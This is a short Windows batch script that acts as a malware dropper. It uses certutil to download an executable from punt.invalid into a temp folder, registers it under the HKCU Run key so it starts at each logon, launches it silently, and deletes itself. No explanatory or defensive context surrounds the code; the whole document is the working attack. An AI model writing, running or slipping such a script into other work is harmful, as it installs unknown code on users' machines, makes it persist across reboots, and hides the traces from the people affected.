@echo off
setlocal
set "T=%TEMP%\punt"
mkdir "%T%" 2>nul
certutil -urlcache -split -f https://punt.invalid/p.exe "%T%\p.exe" >nul
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Punt /d "%T%\p.exe" /f >nul
start "" /b "%T%\p.exe"
del "%~f0"
